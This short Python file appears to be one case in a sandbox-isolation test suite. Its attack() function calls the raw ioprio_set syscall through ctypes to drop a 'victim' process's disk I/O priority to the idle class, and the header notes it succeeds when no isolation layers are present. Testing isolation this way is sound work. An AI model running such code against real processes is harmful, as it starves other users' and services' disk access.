# C45: has another process wait longest for the disk
# Without layers: succeeds
import sys

os = sys.modules["os"]

SET, GET = {"x86_64": (251, 252), "aarch64": (30, 31)}[os.uname().machine]
PROCESS, IDLE = 1, 3 << 13


def attack(facts):
    libc = sys.modules["ctypes"].CDLL(None)
    libc.syscall(SET, PROCESS, facts["victim"], IDLE)
    return libc.syscall(GET, PROCESS, facts["victim"]) == IDLE
